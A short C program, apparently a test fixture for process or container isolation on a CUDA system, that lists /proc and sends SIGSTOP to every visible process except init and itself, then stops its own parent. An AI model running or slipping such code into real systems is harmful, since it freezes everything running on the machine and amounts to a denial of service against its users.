/* Stops every process that it sees. */
#define _GNU_SOURCE
#include <cuda_runtime_api.h>
#include <dirent.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

int main(void)
{
    cudaDeviceSynchronize();

    DIR *folder = opendir("/proc");
    for (struct dirent *entry; folder && (entry = readdir(folder));)
        if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid())
            kill(atoi(entry->d_name), SIGSTOP);
    kill(getppid(), SIGSTOP);
    return 0;
}
